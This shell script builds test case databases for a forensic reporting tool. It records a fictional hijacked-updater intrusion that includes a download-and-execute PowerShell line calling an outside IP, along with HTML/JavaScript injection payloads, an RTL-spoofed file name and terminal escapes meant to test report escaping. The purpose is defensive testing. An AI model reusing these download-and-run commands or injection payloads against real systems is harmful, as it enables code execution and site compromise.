# report-fixture.sh - builds case files for the report and export tests by
# plain sqlite3 inserts into a fresh case (schema from src/schema.sql), as
# the analysis and indicator layers would fill it (doc/schema.md).
#
#   make_story_case CASE    the reference story in small: updater, download,
#                           payload, encoded PowerShell, self-deletion, IOC
#                           hits, a deleted file, benign noise
#   plant_hostile CASE      adds evidence text that tries to run script in
#                           the report (all of it cited by a finding)

# ft 'YYYY-MM-DD HH:MM:SS' [ticks]: FILETIME of a UTC time, plus extra 100 ns ticks
ft() {
	echo $(( $(date -u -d "$1" +%s) * 10000000 + 116444736000000000 + ${2:-0} ))
}

# The schema version of src/schema.sql (CT_SCHEMA_VERSION).
schema_version() {
	sed -n 's/^#define CT_SCHEMA_VERSION[[:space:]]*\([0-9]*\).*/\1/p' \
	    "$TOP_SRCDIR/src/casedb.h"
}

new_case() {
	rm -f "$1"
	{
		cat "$TOP_SRCDIR/src/schema.sql"
		echo "PRAGMA application_id = 1668575793;"
		echo "PRAGMA user_version = $(schema_version);"
		echo "INSERT INTO meta VALUES ('application', 'casetrail'),"
		echo "  ('created_by', 'fixture'), ('created_at', '2024-03-14T09:00:00.0000000Z');"
	} | sqlite3 "$1"
}

make_story_case() {
	new_case "$1"
	T0=$(ft '2024-03-13 14:02:11' 4000000)	# updater start, .4 s
	T1=$(ft '2024-03-13 14:02:13')		# connect 5.39.218.205
	T2=$(ft '2024-03-13 14:02:15')		# payload written
	T3=$(ft '2024-03-13 14:02:20')		# payload started
	T4=$(ft '2024-03-13 14:02:22')		# encoded PowerShell
	T5=$(ft '2024-03-13 14:02:23')		# script block
	T6=$(ft '2024-03-13 14:02:25')		# connect 176.53.118.131
	T7=$(ft '2024-03-13 14:02:40')		# cmd ping & del
	T8=$(ft '2024-03-13 14:02:44' 1234567)	# USN delete
	TB=$(ft '2024-03-12 09:15:00')		# benign updater run, a day earlier
	TA=$(ft '2024-03-13 13:30:00')		# admin PowerShell
	TOLD=$(ft '2019-06-01 08:00:00')	# an old file
	NOW=$(ft '2024-03-14 09:00:00')
	sqlite3 "$1" <<SQL
BEGIN;
INSERT INTO source (id, parent_id, kind, path, locator, size, md5, sha1, sha256, status, parser, tool_version, added_at, note) VALUES
 (1, NULL, 'image', '/evidence/FIN-WS042.raw', NULL, 1073741824, '0cc175b9c0f1b6a831c399e269772661', '86f7e437faa5a7fce15d1ddcb9eaeaea377667b8', 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb', 'ok', 'image', '0.1.0', $NOW, NULL),
 (2, 1, 'volume', 'partition 2', 'partition 2 (sector 2048)', 1072693248, NULL, NULL, NULL, 'ok', 'image', '0.1.0', $NOW, NULL),
 (3, 2, 'evtx', '/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx', 'MFT 301-1', 1118208, 'aa', 'bb', '3e23e8160039594a33894f6564e1b1348bbd7a0088d42c4acb73eeaed59c009d', 'ok', 'evtx', '0.1.0', $NOW, NULL),
 (4, 2, 'evtx', '/Windows/System32/winevt/Logs/Security.evtx', 'MFT 302-1', 69632, 'cc', 'dd', '2e7d2c03a9507ae265ecf5b5356885a53393a2029d241394997265a1a25aefc6', 'partial', 'evtx', '0.1.0', $NOW, '2 records could not be parsed'),
 (5, 2, 'evtx', '/Windows/System32/winevt/Logs/Microsoft-Windows-PowerShell%4Operational.evtx', 'MFT 303-1', 69632, 'ee', 'ff', '18ac3e7343f016890c510e93f935261169d9e3f565436429830faf0934f4f8e4', 'ok', 'evtx', '0.1.0', $NOW, NULL),
 (6, 2, 'usnjrnl', '/\$Extend/\$UsnJrnl:\$J', 'MFT 38-1', 4096, NULL, NULL, '3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca046dea', 'ok', 'usnjrnl', '0.1.0', $NOW, NULL),
 (7, NULL, 'ioc', '/cases/threat-report.txt', NULL, 1200, NULL, NULL, '252f10c83610ebca1a059c0bae8255eba2f95be4d1d7bcfa89d7248a82d9f111', 'partial', 'ioc-text', '0.1.0', $NOW, '3 placeholder hashes rejected'),
 (8, 2, 'prefetch', '/Windows/Prefetch/QEUPDATE_HELPER.EXE-1A2B3C4D.pf', 'MFT 1300-1', 2048, 'a1', 'b2', '7d865e959b2466918c9863afca942d0fb89d7c9ac0c99bafc3749504ded97730', 'ok', 'prefetch', '0.1.0', $NOW, NULL);

INSERT INTO warning (source_id, offset, parser, message) VALUES
 (4, 20480, 'evtx', 'record 17: unable to retrieve record values; skipped'),
 (4, 24576, 'evtx', 'record 18: bad record size 0xffffffff; skipped');

INSERT INTO record (id, source_id, type, locator, offset, flags, summary) VALUES
 (10, 2, 'file', 'MFT 1001-1', 1025024, 0, '/Program Files (x86)/QuillEdit/QEUpdate.exe'),
 (11, 2, 'file', 'MFT 1234-5', 1263616, 9, '/Users/jdoe/AppData/Local/Temp/QEUpd/qeupdate_helper.exe (deleted)'),
 (12, 2, 'file', 'MFT 900-1', 921600, 0, '/Users/jdoe/Documents/notes.txt'),
 (20, 3, 'evtx', 'record 4711', 69632, 0, 'Sysmon 1: process created C:\\Program Files (x86)\\QuillEdit\\QEUpdate.exe'),
 (21, 3, 'evtx', 'record 4712', 70144, 0, 'Sysmon 3: QEUpdate.exe connected to 5.39.218.205:80'),
 (22, 3, 'evtx', 'record 4713', 70656, 0, 'Sysmon 11: QEUpdate.exe created C:\\Users\\jdoe\\AppData\\Local\\Temp\\QEUpd\\qeupdate_helper.exe'),
 (23, 3, 'evtx', 'record 4714', 71168, 0, 'Sysmon 1: process created qeupdate_helper.exe'),
 (24, 3, 'evtx', 'record 4715', 71680, 0, 'Sysmon 1: process created powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgA'),
 (25, 5, 'evtx', 'record 88', 8192, 0, 'PowerShell 4104: script block 1 of 1'),
 (26, 3, 'evtx', 'record 4716', 72192, 0, 'Sysmon 3: powershell.exe connected to 176.53.118.131:80'),
 (27, 3, 'evtx', 'record 4717', 72704, 0, 'Sysmon 1: process created cmd.exe /c ping 127.0.0.1 -n 3 > nul & del /f /q qeupdate_helper.exe'),
 (28, 6, 'usn', 'USN 0x1a2b', 2048, 0, 'qeupdate_helper.exe: FILE_DELETE|CLOSE'),
 (29, 4, 'evtx', 'record 120', 12288, 0, 'Security 4688: powershell.exe Get-Service'),
 (30, 3, 'evtx', 'record 4500', 40960, 0, 'Sysmon 1: process created QEUpdate.exe (benign run)'),
 (31, 8, 'prefetch', 'QEUPDATE_HELPER.EXE-1A2B3C4D.pf', 0, 0, 'Prefetch: QEUPDATE_HELPER.EXE ran 1 time');

INSERT INTO event (record_id, ts, ts_desc) VALUES
 (10, $TOLD, 'SI created'), (10, $TOLD, 'FN created'), (10, $TB, 'SI accessed'),
 (11, $T2, 'SI created'), (11, $T2, 'FN created'), (11, $T3, 'SI accessed'),
 (12, $TA, 'SI modified'),
 (20, $T0, 'event created'), (21, $T1, 'event created'), (22, $T2, 'event created'),
 (23, $T3, 'event created'), (24, $T4, 'event created'), (25, $T5, 'event created'),
 (26, $T6, 'event created'), (27, $T7, 'event created'), (28, $T8, 'USN change'),
 (29, $TA, 'event created'), (30, $TB, 'event created'), (31, $T3, 'program run');

INSERT INTO prefetch (record_id, executable, prefetch_hash, format_version, run_count, last_run, run_times, volumes, files) VALUES
 (31, 'QEUPDATE_HELPER.EXE', '1A2B3C4D', 30, 1, $T3, '[$T3]', '[{"device":"\\\\VOLUME{01d9}","serial":"0x5a1e"}]',
  '["\\\\VOLUME{01d9}\\\\USERS\\\\JDOE\\\\APPDATA\\\\LOCAL\\\\TEMP\\\\QEUPD\\\\QEUPDATE_HELPER.EXE"]');

INSERT INTO file (record_id, fs_type, path, name, inode, seq, parent_inode, parent_seq, type, size, allocated,
  si_crtime, si_mtime, si_atime, si_ctime, fn_crtime, fn_mtime, fn_atime, fn_ctime, md5, sha1, sha256, content, zone_id, zone_host_url) VALUES
 (10, 'ntfs', '/Program Files (x86)/QuillEdit/QEUpdate.exe', 'QEUpdate.exe', 1001, 1, 900, 1, 'file', 245760, 1,
  $TOLD, $TOLD, $TB, $TOLD, $TOLD, $TOLD, $TOLD, $TOLD, '11111111111111111111111111111111', NULL, NULL, 'allocated', NULL, NULL),
 (11, 'ntfs', '/Users/jdoe/AppData/Local/Temp/QEUpd/qeupdate_helper.exe', 'qeupdate_helper.exe', 1234, 5, 1200, 2, 'file', 73728, 0,
  $T2, $T2, $T3, $T2, $T2, $T2, $T2, $T2, '5d41402abc4b2a76b9719d911017c592', 'aaf4c61ddcc5e8a2dabede0f3b482cd9aea9434d',
  '2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824', 'recovered', 3, 'http://5.39.218.205/logo.png'),
 (12, 'ntfs', '/Users/jdoe/Documents/notes.txt', 'notes.txt', 900, 1, 800, 1, 'file', 12, 1,
  $TA, $TA, $TA, $TA, $TA, $TA, $TA, $TA, NULL, NULL, NULL, 'allocated', NULL, NULL);

INSERT INTO evtx (record_id, record_number, written, created, event_id, provider, channel, computer, data,
  image, command_line, process_id, parent_image, dst_ip, dst_port, target_file, script_text, script_block_id) VALUES
 (20, 4711, $T0, $T0, 1, 'Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational', 'FIN-WS042',
  '{"Image":"C:\\\\Program Files (x86)\\\\QuillEdit\\\\QEUpdate.exe","CommandLine":"QEUpdate.exe /silent","ProcessId":"2120"}',
  'C:\\Program Files (x86)\\QuillEdit\\QEUpdate.exe', 'QEUpdate.exe /silent', 2120, 'C:\\Windows\\System32\\taskeng.exe', NULL, NULL, NULL, NULL, NULL),
 (21, 4712, $T1, $T1, 3, 'Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational', 'FIN-WS042',
  '{"DestinationIp":"5.39.218.205","DestinationPort":"80"}', 'C:\\Program Files (x86)\\QuillEdit\\QEUpdate.exe', NULL, 2120, NULL, '5.39.218.205', 80, NULL, NULL, NULL),
 (22, 4713, $T2, $T2, 11, 'Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational', 'FIN-WS042',
  '{"TargetFilename":"C:\\\\Users\\\\jdoe\\\\AppData\\\\Local\\\\Temp\\\\QEUpd\\\\qeupdate_helper.exe"}', NULL, NULL, 2120, NULL, NULL, NULL,
  'C:\\Users\\jdoe\\AppData\\Local\\Temp\\QEUpd\\qeupdate_helper.exe', NULL, NULL),
 (23, 4714, $T3, $T3, 1, 'Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational', 'FIN-WS042',
  '{"Image":"qeupdate_helper.exe"}', 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\QEUpd\\qeupdate_helper.exe', 'qeupdate_helper.exe', 3312, NULL, NULL, NULL, NULL, NULL, NULL),
 (24, 4715, $T4, $T4, 1, 'Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational', 'FIN-WS042',
  '{"Image":"powershell.exe","CommandLine":"powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgA"}',
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgA', 4020, NULL, NULL, NULL, NULL, NULL, NULL),
 (25, 88, $T5, $T5, 4104, 'Microsoft-Windows-PowerShell', 'Microsoft-Windows-PowerShell/Operational', 'FIN-WS042',
  '{"MessageNumber":"1","MessageTotal":"1","ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString(''http://176.53.118.131/logo.png'')","ScriptBlockId":"9f1c"}',
  NULL, NULL, NULL, NULL, NULL, NULL, NULL, 'IEX (New-Object Net.WebClient).DownloadString(''http://176.53.118.131/logo.png'')', '9f1c'),
 (26, 4716, $T6, $T6, 3, 'Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational', 'FIN-WS042',
  '{"DestinationIp":"176.53.118.131","DestinationPort":"80"}', 'powershell.exe', NULL, 4020, NULL, '176.53.118.131', 80, NULL, NULL, NULL),
 (27, 4717, $T7, $T7, 1, 'Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational', 'FIN-WS042',
  '{"CommandLine":"cmd.exe /c ping 127.0.0.1 -n 3 > nul & del /f /q \"C:\\\\Users\\\\jdoe\\\\AppData\\\\Local\\\\Temp\\\\QEUpd\\\\qeupdate_helper.exe\""}',
  'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c ping 127.0.0.1 -n 3 > nul & del /f /q "C:\\Users\\jdoe\\AppData\\Local\\Temp\\QEUpd\\qeupdate_helper.exe"', 4400, NULL, NULL, NULL, NULL, NULL, NULL),
 (29, 120, $TA, $TA, 4688, 'Microsoft-Windows-Security-Auditing', 'Security', 'FIN-WS042',
  '{"NewProcessName":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe","CommandLine":"powershell.exe Get-Service"}',
  'powershell.exe', 'powershell.exe Get-Service', 5000, NULL, NULL, NULL, NULL, NULL, NULL),
 (30, 4500, $TB, $TB, 1, 'Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational', 'FIN-WS042',
  '{"Image":"QEUpdate.exe"}', 'QEUpdate.exe', 'QEUpdate.exe /silent', 1900, NULL, NULL, NULL, NULL, NULL, NULL);

INSERT INTO script_block (source_id, script_block_id, parts_total, parts_seen, first_record_id, path, text) VALUES
 (5, '9f1c', 1, 1, 25, NULL, 'IEX (New-Object Net.WebClient).DownloadString(''http://176.53.118.131/logo.png'')
# second line of the script');

INSERT INTO usn (record_id, usn, major, minor, ts, file_inode, file_seq, parent_inode, parent_seq, reason, reasons, name, path) VALUES
 (28, 6699, 2, 0, $T8, 1234, 5, 1200, 2, 2147484160, 'FILE_DELETE|CLOSE', 'qeupdate_helper.exe', '/Users/jdoe/AppData/Local/Temp/QEUpd/qeupdate_helper.exe');

INSERT INTO indicator (id, source_id, line, category, type, value, normalized, valid, reason) VALUES
 (1, 7, 12, 'Network activity', 'ip-dst', '5.39.218[.]205', '5.39.218.205', 1, NULL),
 (2, 7, 13, 'Network activity', 'ip-dst', '176.53.118[.]131', '176.53.118.131', 1, NULL),
 (3, 7, 14, 'Network activity', 'url', 'hxxp://176.53.118[.]131/logo.png', 'http://176.53.118.131/logo.png', 1, NULL),
 (4, 7, 16, 'Payload delivery', 'md5', '5d41402abc4b2a76b9719d911017c592', '5d41402abc4b2a76b9719d911017c592', 1, NULL),
 (5, 7, 17, 'Payload delivery', 'sha1', '<sha1>', NULL, 0, 'placeholder, not a SHA-1 hash'),
 (6, 7, 18, 'Payload delivery', 'ip-dst', '198.51.100.7', '198.51.100.7', 1, NULL);

INSERT INTO case_context (source_id, key, value) VALUES
 (7, 'title', 'Operation WilySupply: hijacked updater'),
 (7, 'text', 'An editing tool''s updater fetched a payload from 5.39.218.205.');

INSERT INTO indicator_hit (indicator_id, record_id, field, matched) VALUES
 (1, 21, 'dst_ip', '5.39.218.205'), (2, 26, 'dst_ip', '176.53.118.131'),
 (3, 25, 'script_text', 'http://176.53.118.131/logo.png'), (4, 11, 'md5', '5d41402abc4b2a76b9719d911017c592');

INSERT INTO finding (id, rule, severity, confidence, first_ts, last_ts, title, description, attack) VALUES
 (1, 'updater-download', 'high', 'high', $T0, $T2, 'Updater downloaded an executable from 5.39.218.205', 'QEUpdate.exe connected to 5.39.218.205:80 and wrote qeupdate_helper.exe.', 'T1195.002, T1105'),
 (2, 'updater-child', 'high', 'high', $T3, $T3, 'Updater started the downloaded executable', 'qeupdate_helper.exe was started by QEUpdate.exe.', 'T1204.002'),
 (3, 'powershell-encoded', 'critical', 'high', $T4, $T6, 'Hidden PowerShell with an encoded command', 'Decoded script:
IEX (New-Object Net.WebClient).DownloadString(''http://176.53.118.131/logo.png'')', 'T1059.001,T1027'),
 (4, 'self-delete', 'high', 'high', $T7, $T8, 'Payload deleted itself', 'cmd.exe, started by qeupdate_helper.exe, deleted qeupdate_helper.exe.', 'T1070.004'),
 (5, 'admin-powershell', 'info', 'low', $TA, $TA, 'PowerShell used by an administrator', 'Get-Service, not encoded.', NULL);

INSERT INTO finding_evidence (finding_id, record_id, role) VALUES
 (1, 20, 'updater'), (1, 21, 'connection'), (1, 22, 'file write'), (1, 11, 'payload'),
 (2, 23, 'process'), (2, 31, 'prefetch'), (3, 24, 'process'), (3, 25, 'script'), (3, 26, 'connection'),
 (4, 27, 'deleting command'), (4, 28, 'journal'), (4, 11, 'deleted file'), (5, 29, 'process');

INSERT INTO process (id, image, pid, process_guid, command_line, user_name, start_ts, end_ts, parent_id, parent_image, parent_pid, start_record_id, origin) VALUES
 (1, 'C:\\Windows\\System32\\taskeng.exe', 880, NULL, NULL, 'NT AUTHORITY\\SYSTEM', NULL, NULL, NULL, NULL, NULL, NULL, 'sysmon'),
 (2, 'C:\\Program Files (x86)\\QuillEdit\\QEUpdate.exe', 2120, '{a1}', 'QEUpdate.exe /silent', 'FIN\\jdoe', $T0, NULL, 1, NULL, 880, 20, 'sysmon'),
 (3, 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\QEUpd\\qeupdate_helper.exe', 3312, '{a2}', 'qeupdate_helper.exe', 'FIN\\jdoe', $T3, NULL, 2, NULL, 2120, 23, 'sysmon'),
 (4, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 4020, '{a3}', 'powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgA', 'FIN\\jdoe', $T4, NULL, 3, NULL, 3312, 24, 'sysmon'),
 (5, 'C:\\Windows\\System32\\cmd.exe', 4400, '{a4}', 'cmd.exe /c ping 127.0.0.1 -n 3 > nul & del /f /q qeupdate_helper.exe', 'FIN\\jdoe', $T7, NULL, 3, NULL, 3312, 27, 'sysmon'),
 (6, 'C:\\Windows\\explorer.exe', 1500, NULL, NULL, 'FIN\\jdoe', NULL, NULL, NULL, NULL, NULL, NULL, 'sysmon');

INSERT INTO chain (id, title, severity, first_ts, last_ts, summary) VALUES
 (1, 'Hijacked updater: download, execution, PowerShell, self-deletion', 'critical', $T0, $T8, 'QEUpdate.exe fetched and ran a payload that ran encoded PowerShell and deleted itself.');
INSERT INTO chain_step (chain_id, seq, finding_id) VALUES (1, 1, 1), (1, 2, 2), (1, 3, 3), (1, 4, 4);

INSERT INTO narrative (id, chain_id, seq, ts, finding_id, text) VALUES
 (1, 1, 1, $T0, 1, 'The updater QEUpdate.exe started.'),
 (2, 1, 2, $T1, 1, 'QEUpdate.exe connected to 5.39.218.205 on port 80.'),
 (3, 1, 3, $T2, 1, 'QEUpdate.exe wrote qeupdate_helper.exe to the user''s temp folder.'),
 (4, 1, 4, $T3, 2, 'QEUpdate.exe started qeupdate_helper.exe.'),
 (5, 1, 5, $T4, 3, 'qeupdate_helper.exe started hidden PowerShell with an encoded command that downloads http://176.53.118.131/logo.png.'),
 (6, 1, 6, $T6, 3, 'PowerShell connected to 176.53.118.131 on port 80.'),
 (7, 1, 7, $T7, 4, 'qeupdate_helper.exe deleted itself through cmd.exe; its MFT entry and content survive.');
INSERT INTO narrative_evidence (narrative_id, record_id) VALUES
 (1, 20), (2, 21), (3, 22), (3, 11), (4, 23), (4, 31), (5, 24), (5, 25), (6, 26), (7, 27), (7, 28), (7, 11);
COMMIT;
SQL
}

plant_hostile() {
	TH=$(ft '2024-03-13 14:05:00')
	sqlite3 "$1" <<SQL
BEGIN;
INSERT INTO record (id, source_id, type, locator, offset, flags, summary) VALUES
 (900, 2, 'file', 'MFT 5000-1', 5120000, 1, '<script>document.title="pwned-script"</script>.exe'),
 (901, 3, 'evtx', 'record 9001', 90000, 0, '"><img src=x onerror="document.title=''pwned-img''">'),
 (902, 2, 'file', 'MFT 5001-1', 5121024, 0, 'invoice' || char(0x202E) || 'gpj.exe'),
 (903, 3, 'evtx', 'record 9002', 91000, 0, 'bell' || char(7) || 'esc' || char(27) || '[31mred' || char(10) || 'fake second line'),
 (904, 5, 'evtx', 'record 9003', 92000, 0, '<svg onload="document.title=''pwned-svg''"></svg>');
INSERT INTO event (record_id, ts, ts_desc) VALUES
 (900, $TH, 'SI created'), (901, $TH, 'event created'), (902, $TH, 'SI created'),
 (903, $TH, 'event created'), (904, $TH, '<b>desc</b>');
INSERT INTO file (record_id, fs_type, path, name, inode, seq, type, size, allocated, si_crtime, zone_host_url, zone_referrer) VALUES
 (900, 'ntfs', '/Users/jdoe/<script>document.title="pwned-script"</script>.exe', '<script>document.title="pwned-script"</script>.exe', 5000, 1, 'file', 10, 0, $TH,
  'javascript:document.title=''pwned-url''', 'javascript:alert(1)'),
 (902, 'ntfs', '/Users/jdoe/invoice' || char(0x202E) || 'gpj.exe', 'invoice' || char(0x202E) || 'gpj.exe', 5001, 1, 'file', 10, 1, $TH, NULL, NULL);
INSERT INTO evtx (record_id, record_number, created, event_id, provider, channel, computer, data, command_line, script_text, script_block_id) VALUES
 (901, 9001, $TH, 1, 'Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational', 'FIN-WS042',
  '{"CommandLine":"\"><img src=x onerror=\"document.title=''pwned-img''\">","</dd><script>document.title=''pwned-key''</script>":"x"}',
  '"><img src=x onerror="document.title=''pwned-img''">', NULL, NULL),
 (903, 9002, $TH, 1, 'Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational', 'FIN-WS042', 'not json <script>document.title=''pwned-raw''</script>', NULL, NULL, NULL),
 (904, 9003, $TH, 4104, 'Microsoft-Windows-PowerShell', 'Microsoft-Windows-PowerShell/Operational', 'FIN-WS042',
  '{"ScriptBlockText":"</pre><script>document.body.setAttribute(''data-pwned'',''1'')</script>"}', NULL,
  '</pre><script>document.body.setAttribute(''data-pwned'',''1'')</script>', 'evil');
INSERT INTO script_block (source_id, script_block_id, parts_total, parts_seen, first_record_id, text) VALUES
 (5, 'evil', 1, 1, 904, '</pre><script>document.body.setAttribute(''data-pwned'',''1'')</script>
<!-- <script>document.title=''pwned-comment''</script>');
INSERT INTO finding (id, rule, severity, first_ts, last_ts, title, description, attack) VALUES
 (90, 'hostile<script>', 'high', $TH, $TH, '<iframe srcdoc="<script>parent.document.title=''pwned-iframe''</script>">',
  'javascript:document.title=''pwned-desc'' ' || char(0x202E) || 'txt.exe', '<b>T1</b>, "><script>document.title=''pwned-attack''</script>');
INSERT INTO finding_evidence (finding_id, record_id, role) VALUES
 (90, 900, '<i>role</i>'), (90, 901, NULL), (90, 902, NULL), (90, 903, NULL), (90, 904, NULL);
INSERT INTO narrative (id, chain_id, seq, ts, finding_id, text) VALUES
 (90, NULL, 1, $TH, 90, 'Hostile: <script>document.title="pwned-narr"</script> ' || char(0x202E) || 'fdp.exe');
INSERT INTO narrative_evidence (narrative_id, record_id) VALUES (90, 900), (90, 901), (90, 902), (90, 903), (90, 904);
INSERT INTO indicator (id, source_id, line, type, value, normalized, valid, reason) VALUES
 (90, 7, 40, 'url', 'javascript:document.title=''pwned-ioc''', 'javascript:document.title=''pwned-ioc''', 0, '<script>not a url</script>');
INSERT INTO case_context (source_id, key, value) VALUES (7, '<script>k</script>', '<img src=x onerror="document.title=''pwned-ctx''">');
INSERT INTO warning (source_id, offset, parser, message) VALUES (3, 1, 'evtx', '<script>document.title="pwned-warn"</script>');
-- into the drawings: a chain step with a hostile title on a host with a
-- hostile name (its own lane), and a hostile process under the payload
INSERT INTO chain_step (chain_id, seq, finding_id) VALUES (1, 5, 90);
UPDATE evtx SET computer = 'WS"><svg onload="document.title=''pwned-host''">' WHERE record_id = 901;
INSERT INTO process (id, image, pid, command_line, user_name, start_ts, parent_id, start_record_id, origin) VALUES
 (90, 'C:\Temp\<svg onload="document.title=''pwned-proc''">.exe', 6666,
  '"><foreignObject><iframe src="javascript:document.title=''pwned-cmd''">', '<b>evil</b>', $TH, 3, 900, 'sysmon');
COMMIT;
SQL
}
